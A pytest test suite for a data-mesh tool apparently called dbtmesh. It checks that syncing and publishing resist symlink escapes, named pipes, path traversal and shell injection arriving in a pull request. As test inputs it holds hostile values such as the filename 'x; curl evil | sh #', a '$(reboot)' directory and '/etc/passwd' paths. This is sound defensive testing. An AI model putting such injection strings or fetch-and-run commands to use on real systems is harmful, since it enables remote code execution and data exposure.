"""Links, pipes and paths that a pull request brings: nothing is written elsewhere or waited for."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest

from dbtmesh import MeshError
from dbtmesh.commands import deploy_state, publish_manifest, stub_mesh, sync_mesh
from dbtmesh.registry import keys
from dbtmesh.registry.folder import FolderStore
from tests.test_one_fault import published
from tests.test_untrusted_commands import FACTS, World, run


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    made = World(tmp_path)
    reads = "{name: dbt_up, database_prefix: DBT_UP}"
    facts = FACTS.format(name="dbt_down", kind="native", prefix="DBT_DOWN", upstreams=reads)
    made.write({"dbt_down/mesh.yml": facts.encode(), "dbt_down/dbt_project.yml": b"name: dbt_down"})
    own = FACTS.format(name="dbt_up", kind="upstream", prefix="DBT_UP", upstreams="")
    made.write({"dbt_up/mesh.yml": own.encode()})
    made.write({f"registry/{keys.latest('dbt_up', 'prod')}": published("dbt_up")})
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/manifest.json").write_text("theirs")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DBT_MESH_HOME", str(tmp_path / ".mesh"))
        patch.delenv("GITHUB_ACTIONS", raising=False)
        yield made


def sync(world: World, *words: str) -> tuple[int, str]:
    return run(partial(sync_mesh.main, [*world.flags, *words], world.folder / "dbt_down"))


def elsewhere(world: World) -> dict[str, str]:
    root = world.folder / "elsewhere"
    return {path.name: path.read_text() for path in root.rglob("*") if path.is_file()}


@pytest.mark.parametrize("link", ["state", "state/dbt_up", "models"])
def test_a_sync_writes_through_no_link(world: World, link: str) -> None:
    place = world.folder / "dbt_down" / link
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(world.folder / "elsewhere")
    status, text = sync(world)
    assert status == 1
    (line,) = [line for line in text.splitlines() if line.startswith("error")]
    assert "a link leads out of the folder there: remove it" in line
    assert elsewhere(world) == {"manifest.json": "theirs"}


@pytest.mark.parametrize("name", ["state/dbt_up/manifest.json", "models/_mesh_dbt_up.yml"])
def test_a_file_that_is_a_link_is_replaced_itself(world: World, name: str) -> None:
    place = world.folder / "dbt_down" / name
    place.parent.mkdir(parents=True)
    place.symlink_to(world.folder / "elsewhere/manifest.json")
    assert sync(world)[0] == 0
    assert not place.is_symlink()
    assert elsewhere(world) == {"manifest.json": "theirs"}


def test_links_within_the_project_are_fine(world: World) -> None:
    (world.folder / "dbt_down/dbt").mkdir()
    (world.folder / "dbt_down/models").symlink_to("dbt")
    assert sync(world)[0] == 0
    assert (world.folder / "dbt_down/dbt/_mesh_dbt_up.yml").is_file()


@pytest.mark.parametrize(
    "name",
    [
        *("state/dbt_up/manifest.json", "state/dbt_up/.sync.json", "models/_mesh_dbt_up.yml"),
        *("models/_mesh_other.yml", "mesh_sources/dbt_up.yml", "packages.yml"),
    ],
)
def test_a_pipe_is_not_waited_for(world: World, name: str) -> None:
    place = world.folder / "dbt_down" / name
    place.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(place)
    status, text = sync(world)
    assert status in (0, 1), text
    assert len(text.splitlines()) < 5
    status, text = run(
        partial(stub_mesh.main, ["--offline", "--dry-run"], world.folder / "dbt_down")
    )
    assert status in (0, 1), text


def test_names_of_files_are_not_handed_to_a_shell(world: World) -> None:
    """What a former upstream left is named with the command that removes it."""
    sync(world)
    good = (world.folder / "dbt_down/models/_mesh_dbt_up.yml").read_bytes()
    for name in ("x; curl evil | sh #", "a b", "gone"):
        (world.folder / f"dbt_down/models/_mesh_{name}.yml").write_bytes(good)
    shutil.copytree(
        world.folder / "dbt_down/state/dbt_up", world.folder / "dbt_down/state/$(reboot)"
    )
    status, text = sync(world)
    assert status == 0
    assert "rm -r models/_mesh_gone.yml" in text
    assert "curl" not in text
    assert "reboot" not in text


PATHS = ["../../x", "/etc/passwd", "..", "20260101T000000.000000Z-0123456789ab/../..", "a\nb", "*"]


@pytest.mark.parametrize("version", PATHS)
def test_a_version_is_no_path(world: World, version: str) -> None:
    status, text = sync(world, "--upstream", "dbt_up", "--version", version)
    assert status == 1
    assert "has no version" in text
    assert len(text.splitlines()) == 1
    rollback = ["--rollback", version, *world.flags]
    status, text = run(partial(publish_manifest.main, rollback, world.folder / "dbt_up"))
    assert status == 1
    assert len(text.splitlines()) <= 2


@pytest.mark.parametrize("name", ["../dbt_up", "dbt_up/..", "dbt_up\n", "/dbt_up"])
def test_an_upstream_is_no_path(world: World, name: str) -> None:
    status, text = sync(world, "--upstream", name)
    assert status == 1
    assert "is not an upstream of dbt_down" in text


@pytest.mark.parametrize("env", ["../prod", "a/b", "PROD", "a\nb", ""])
def test_an_environment_is_no_path(world: World, env: str) -> None:
    words = ["changed", *world.flags[:2], "--env", env]
    status, text = run(partial(deploy_state.main, words, world.folder / "dbt_down"))
    assert status == 1
    assert len(text.splitlines()) == 1


def test_a_note_that_names_other_files_is_none(world: World) -> None:
    sync(world)
    path = world.folder / "dbt_down/state/dbt_up/.sync.json"
    note = json.loads(path.read_text())
    for other in ("../../elsewhere/manifest.json", "/dev/zero"):
        path.write_text(json.dumps(note | {"written": {other: "0" * 64}}))
        status, text = sync(world)
        assert status == 0
        assert "nothing to write" in text
        assert set(json.loads(path.read_text())["written"]) == set(note["written"])


def test_a_registry_that_several_share_is_written_through_no_link(tmp_path: Path) -> None:
    """Who may write into its folder may not write with another's rights elsewhere."""
    (tmp_path / "registry/dbt_up/prod").mkdir(parents=True)
    (tmp_path / "theirs").mkdir()
    (tmp_path / "registry/dbt_up/prod/consumers").symlink_to(tmp_path / "theirs")
    store = FolderStore(tmp_path / "registry")
    with pytest.raises(MeshError, match="a link leads out of the folder there"):
        store.write(keys.record("dbt_up", "prod", "dbt_down"), b"{}", replaces=None)
    assert [*(tmp_path / "theirs").iterdir()] == []
